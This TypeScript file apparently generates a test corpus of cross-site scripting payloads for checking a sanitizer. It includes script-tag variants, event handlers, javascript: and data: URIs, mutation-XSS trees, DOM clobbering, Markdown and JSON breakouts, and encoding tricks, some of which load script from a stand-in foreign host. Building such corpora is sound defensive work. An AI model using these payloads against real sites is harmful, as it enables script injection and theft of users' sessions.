// Hostile texts, by family. Any that ran would call `__hit` with its name, or make a request to the foreign origin. All
// of it is generated in the same order every time, so that a payload keeps its name.

export interface Payload {
  /** Family and number. `__hit` is called with it as a regular expression, which needs no quotes. */
  name: string
  text: string
  /** A parser treats everything that follows as part of it, so it must come last in a text. */
  swallows: boolean
}

export const foreignOrigin = 'https://foreign.test'

/** A payload before it has its name: the code that runs, and the address it would request. */
type Template = (run: string, foreign: string) => string

const combine = <A, B>(as: readonly A[], bs: readonly B[], template: (a: A, b: B) => Template): Template[] =>
  as.flatMap((a) => bs.map((b) => template(a, b)))

const scripts: Template[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT>${run}</SCRIPT>`,
  (run) => `<script type="module">${run}</script>`,
  (run) => `<script type="text/javascript" defer>${run}</script>`,
  (run) => `<script\n>${run}</script\n>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script/type=text/javascript>${run}</script>`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script><!--\n${run}\n//--></script>`,
  (run) => `<script>//<![CDATA[\n${run}\n//]]></script>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:,${run}"></script></svg>`,
  (run) => `<svg><script xlink:href="data:text/javascript,${run}"/></svg>`,
  (run) => `<math><script>${run}</script></math>`,
  (run) => `<table><script>${run}</script></table>`,
  (run) => `<p><b><script>${run}</script></b></p>`,
  (run) => `<noscript><script>${run}</script></noscript>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<select><script>${run}</script></select>`,
  (_, foreign) => `<script src="${foreign}/x.js"></script>`,
  (_, foreign) => `<script src="//${foreign.slice(8)}/x.js"></script>`,
  (_, foreign) => `<script type="importmap">{"imports":{"a":"${foreign}/x.js"}}</script>`,
  (run) => `<script>self.__next_f.push([0]);${run}</script>`,
  (run) =>
    `<script type="speculationrules">{"prefetch":[{"urls":["${foreignOrigin}/${run.length}"]}]}</script>`,
]

const carriers: [tag: string, attributes: string, event: string][] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src="/images/meeting-place.svg"', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src="about:blank"', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['a', 'href="/" tabindex=0', 'onfocus'],
  ['a', 'href="/cities"', 'onclick'],
  ['p', '', 'onmouseover'],
  ['div', '', 'onpointerover'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['td', '', 'onmouseenter'],
  ['h2', 'style="animation:spin 1s"', 'onanimationstart'],
  ['button', 'popovertarget=x', 'onclick'],
  ['div', 'contenteditable', 'onbeforeinput'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href="/x.css"', 'onerror'],
]
const handlerForms: ((tag: string, attributes: string, event: string, run: string) => string)[] = [
  (tag, attributes, event, run) => `<${tag} ${attributes} ${event}="${run}">`,
  (tag, attributes, event, run) => `<${tag.toUpperCase()} ${attributes} ${event.toUpperCase()}=${run}>`,
  (tag, attributes, event, run) => `<${tag}/${attributes}/${event}='${run}'/>`,
]
const handlers = combine(
  carriers,
  handlerForms,
  ([tag, attributes, event], form) =>
    (run) =>
      form(tag, attributes, event, run),
)

const schemes: ((run: string, foreign: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `&#x6A;&#x61;vascript&#58;${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `blob:https://lookingforfriends.example/${run}`,
  (_, foreign) => `//${foreign.slice(8)}/a`,
  (_, foreign) => `\\\\${foreign.slice(8)}\\a`,
  (_, foreign) => `/\\${foreign.slice(8)}/a`,
  (_, foreign) => `/\t/${foreign.slice(8)}/a`,
  (_, foreign) => `http://${foreign.slice(8)}/a`,
  (_, foreign) => `https:${foreign.slice(8)}/a`,
  (_, foreign) => `https://lookingforfriends.example@${foreign.slice(8)}/a`,
]
const holders: ((address: string) => string)[] = [
  (address) => `<a href="${address}">link</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
]
const addresses = combine(
  schemes,
  holders,
  (scheme, holder) => (run, foreign) => holder(scheme(run, foreign)),
)

/** Ways to lead elsewhere without a script. */
const embeds: Template[] = [
  (_, foreign) => `<img srcset="${foreign}/a 1x, ${foreign}/b 2x" src="/images/meeting-place.svg">`,
  (_, foreign) => `<img src="${foreign}/a.png">`,
  (_, foreign) => `<picture><source srcset="${foreign}/a"><img src="/images/meeting-place.svg"></picture>`,
  (_, foreign) => `<video poster="${foreign}/a"><source src="${foreign}/b"></video>`,
  (_, foreign) => `<audio src="${foreign}/a" autoplay></audio>`,
  (_, foreign) => `<embed src="${foreign}/a">`,
  (_, foreign) => `<object data="${foreign}/a"></object>`,
  (_, foreign) => `<link rel="stylesheet" href="${foreign}/a.css">`,
  (_, foreign) => `<link rel="preload" as="image" href="${foreign}/a">`,
  (_, foreign) => `<link rel="dns-prefetch" href="${foreign}">`,
  (_, foreign) => `<base href="${foreign}/">`,
  (_, foreign) => `<meta http-equiv="refresh" content="0;url=${foreign}/">`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (_, foreign) => `<style>@import url(${foreign}/a.css);</style>`,
  (_, foreign) => `<style>body{background:url(${foreign}/a)}</style>`,
  (_, foreign) => `<p style="background:url(${foreign}/a);position:fixed;inset:0;z-index:99999">cover</p>`,
  (_, foreign) => `<table background="${foreign}/a"><tr><td background="${foreign}/b">x</td></tr></table>`,
  (_, foreign) => `<body background="${foreign}/a">`,
  (_, foreign) => `<form action="${foreign}/a"><input name="q"><button>send</button></form>`,
  (run) => `<form action="javascript:${run}"><button autofocus>send</button></form>`,
  (run) => `<button form="x" formaction="javascript:${run}">send</button>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_, foreign) => `<frameset><frame src="${foreign}/a"></frameset>`,
  (_, foreign) => `<a href="/" ping="${foreign}/a">ping</a>`,
  (_, foreign) => `<svg><image href="${foreign}/a"/><use href="${foreign}/b#c"/></svg>`,
  (_, foreign) => `<svg><foreignObject><img src="${foreign}/a"></foreignObject></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
  (run) => `<svg><animate attributeName="href" values="javascript:${run}"/></svg>`,
  (run) => `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  (run) => `<math href="javascript:${run}"><mi>x</mi></math>`,
]

/** Trees that parsers interpret differently. */
const mutations: Template[] = [
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><math><img src onerror=${run}></style></table></mtext></math>`,
  (run) => `<svg></p><style><a title="</style><img src onerror=${run}>">`,
  (run) => `<svg><p><style><a id="</style><img src=1 onerror=${run}>"></svg>`,
  (run) => `<svg><title><p><style><img src=x onerror=${run}></style></title></svg>`,
  (run) => `<svg><desc><noscript><img src=x onerror=${run}></noscript></desc></svg>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  (run) => `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  (run) => `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  (run) => `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  (run) => `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  (run) => `<style><p title="</style><img src=x onerror=${run}>"></style>`,
  (run) => `<template><p title="</template><img src=x onerror=${run}>"></template>`,
  (run) =>
    `<select><template><style><!--</style><a rel="--></style><img src=x onerror=${run}>"></template></select>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) =>
    `<math><annotation-xml encoding="text/html"><p><style><img src=x onerror=${run}></style></p></annotation-xml></math>`,
  (run) => `<table><caption><svg><style><img src=x onerror=${run}></style></svg></caption></table>`,
  (run) => `<a><svg><a><style><img src=x onerror=${run}></style></a></svg></a>`,
  (run) => `<p title="&lt;/p&gt;&lt;img src=x onerror=${run}&gt;">title</p>`,
  (run) => `<code>&lt;img src=x onerror=${run}&gt;</code>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `<pre>\n\n<listing><img src=x onerror=${run}></listing></pre>`,
  (run) => `<img alt="\`><img src=x onerror=${run}>\`">`,
  (run) => `<?xml version="1.0"?><?php <img src=x onerror=${run}> ?>`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${run}>">]>&x;`,
  (run) => `<div><template shadowrootmode="open"><img src=x onerror=${run}></template></div>`,
  (run) => `${'<div>'.repeat(120)}<img src=x onerror=${run}>${'</div>'.repeat(120)}`,
]

/** Names that scripts look up on the document or the window. */
const clobbering: Template[] = [
  ...['__next_f', 'location', 'document', 'dataLayer', 'fetch', 'next', 'TURBOPACK', 'self'].map(
    (name): Template =>
      () =>
        `<a id="${name}" name="${name}" href="${foreignOrigin}/clobber">x</a>`,
  ),
  ...['cookie', 'querySelector', 'body', 'head', 'forms', 'getElementById', 'createElement'].map(
    (name): Template =>
      () =>
        `<img name="${name}" id="${name}" src="/images/meeting-place.svg">`,
  ),
  () => '<form id="x"><input name="attributes"><input name="nodeName"></form>',
  () => '<form><input name="innerHTML"><input name="parentNode"></form>',
  () => `<a id="main"></a><a id="main" name="href" href="${foreignOrigin}/x"></a>`,
  () => '<iframe name="self" srcdoc="<a id=x>"></iframe>',
  () => '<output id="__proto__"><p name="constructor">x</p></output>',
]

const markdown: Template[] = [
  (run) => `[link](javascript:${run})`,
  (run) => `[link](<javascript:${run}>)`,
  (run) => `[link](javascript&colon;${run})`,
  (run) => `[link](&#x6A;avascript:${run})`,
  (run) => `[link](\njavascript:${run})`,
  (run) => `[link](data:text/html,<script>${run}</script>)`,
  (run) => `![image](javascript:${run})`,
  (run) => `![image](x "onerror=${run}")`,
  (run) => `![image](x "\\"onerror=\\"${run}")`,
  (run) => `![a"onerror="${run}](x)`,
  (_, foreign) => `![image](${foreign}/a.png)`,
  (_, foreign) => `![image](//${foreign.slice(8)}/a.png)`,
  (run) => `[link][ref]\n\n[ref]: javascript:${run} "title"`,
  (run) => `[link]: javascript:${run}\n\n[link]`,
  (run) => `<javascript:${run}>`,
  (_, foreign) => `[link](https://lookingforfriends.example@${foreign.slice(8)}/)`,
  (run) => `# <img src=x onerror=${run}>`,
  (run) => `> <script>${run}</script>`,
  (run) => `- [ ] <img src=x onerror=${run}>`,
  (run) => `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  (run) => `~~<svg onload=${run}>~~`,
  (run) => `**<a href="javascript:${run}">bold</a>**`,
  (run) => `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  (run) => `\`<script>${run}</script>\``,
  (run) => `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
  (run) => `[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  (run) => `    <script>${run}</script>`,
  (run) => `\\<script>${run}\\</script>`,
  (run) => `[a](https://example.org" onmouseover="${run})`,
  (run) => `www.example.org"onmouseover="${run}`,
  (run) => `https://example.org/<img/src=x/onerror=${run}>`,
]

/** Ways to break out of JSON in a script element, and out of the data that React hydrates from. */
const jsonBreakOuts: Template[] = [
  (run) => `</script><script>${run}</script>`,
  (run) => `</SCRIPT><img src=x onerror=${run}>`,
  (run) => `</script\t><svg onload=${run}>`,
  (run) => `</script/x><script>${run}</script>`,
  (run) => `<!--<script>"}</script><script>${run}</script>-->`,
  (run) => `"}</script><script>${run}</script>`,
  (run) => `\\"}</script><script>${run}</script>`,
  (run) => `","@type":"Thing","url":"javascript:${run}`,
  (run) => `\\u003c/script\\u003e\\u003cscript\\u003e${run}`,
  (run) => `\u2028${run}\u2029</script><script>${run}</script>`,
  (run) => `"])</script><script>${run}</script>`,
  (run) => `"]);${run}//`,
  (run) => `\${${run}}`,
  () => '$L1',
  () => '$Sreact.fragment',
  () => '$undefined',
  (run) => `$@0"${run}`,
  (run) => `{"__html":"<img src=x onerror=${run}>"}`,
  (run) => `]]></script><script>${run}</script>`,
  (run) => `*/</script><script>${run}</script>/*`,
]

const attributeBreakOuts: Template[] = [
  (run) => `"><script>${run}</script>`,
  (run) => `'><script>${run}</script>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `" onmouseover="${run}`,
  (run) => `' onmouseover='${run}`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `" style="animation:spin" onanimationstart="${run}`,
  (run) => `\` onmouseover=${run} \``,
  (run) => `x onerror=${run}`,
  (run) => `&quot; onmouseover=&quot;${run}`,
  (run) => `&#34;&#62;&#60;script&#62;${run}`,
  (run) => `"/><svg/onload=${run}>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</h1></main><script>${run}</script>`,
  (run) => `--><script>${run}</script>`,
  (run) => `]]><script>${run}</script>`,
  (run) => `" srcset="${foreignOrigin}/${run.length}" x="`,
  (_, foreign) => `0;url=${foreign}/" http-equiv="refresh`,
]

const encodings: Template[] = [
  (run) => `\u0000<script>${run}</script>`.replace('\u0000', '\u200b'),
  (run) => `\ufeff<script>${run}</script>`,
  (run) => `<\u200bscript>${run}</script>`,
  (run) => `<scr\u00adipt>${run}</script>`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `\u02bcscript\u02bc \u2039img src=x onerror=${run}\u203a`,
  (run) => `<ſcript>${run}</ſcript>`,
  (run) => `<\u0130mg src=x onerror=${run}>`,
  (run) => `<img src=x one\u0280ror=${run}>`,
  (run) => `<img src=x onerror\u000c=${run}>`,
  (run) => `<img\u000csrc=x\u000conerror=${run}>`,
  (run) => `<img\u00a0src=x\u00a0onerror=${run}>`,
  (run) => `\u202e<script>${run}</script>`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `%253Cscript%253E${run}`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&amp;lt;script&amp;gt;${run}`,
  (run) => `&#0000060script&#0000062${run}`,
  (run) => `&LT;script&GT;${run}`,
  (run) => `<img src=x onerror=&#95;&#95;hit(1)>${run.length}`,
  (run) => `\u{1f9d1}\u200d\u{1f91d}\u200d\u{1f9d1}<b onclick=${run}>\u{1f1ef}</b>`,
  (run) => `a\u0301\u0301\u0301<i onmouseover=${run}>\u0301</i>`,
]

/** Elements whose content a parser reads as text to the end of the input. */
const openEnds: Template[] = [
  ...[
    'plaintext',
    'style',
    'script',
    'textarea',
    'title',
    'xmp',
    'noscript',
    'iframe',
    'noembed',
    'template',
  ].map(
    (tag): Template =>
      (run) =>
        `<${tag}><img src=x onerror=${run}>`,
  ),
  (run) => `<!--<img src=x onerror=${run}>`,
  (run) => `<img src=x title="<img src=y onerror=${run}>`,
  (run) => `<svg><style><![CDATA[<img src=x onerror=${run}>`,
  (run) => `<select><option><img src=x onerror=${run}>`,
  (run) => `<img src=x onerror=${run}//`,
]

const families = {
  scripts,
  handlers,
  addresses,
  embeds,
  mutations,
  clobbering,
  markdown,
  jsonBreakOuts,
  attributeBreakOuts,
  encodings,
  openEnds,
}

export const corpus: Payload[] = Object.entries(families).flatMap(([family, templates]) =>
  templates.map((template, index) => {
    const name = `${family}-${index}`
    return {
      name,
      text: template(`__hit(/${name}/)`, foreignOrigin),
      swallows: family === 'openEnds' || (family === 'mutations' && index < 20),
    }
  }),
)

/** Addresses only, for columns that contain one. */
export const hostileAddresses: string[] = schemes.map((scheme, index) =>
  scheme(`__hit(/address-${index}/)`, foreignOrigin),
)

/**
 * The whole corpus in a number of texts, as an editor's row could contain them. Payloads that swallow what follows come
 * last, one in each text, and a different one for each `turn`.
 * @param separator is placed between two payloads
 */
export function texts(count: number, turn: number, separator = '\n\n'): string[] {
  const open = corpus.filter(({ swallows }) => swallows)
  const closed = corpus.filter(({ swallows }) => !swallows)
  const size = Math.ceil(closed.length / count)
  return Array.from({ length: count }, (_, index) => {
    const part = closed.slice(index * size, (index + 1) * size)
    const last = open[(turn * count + index) % open.length]
    return [...part, ...(last ? [last] : [])].map(({ text }) => text).join(separator)
  })
}
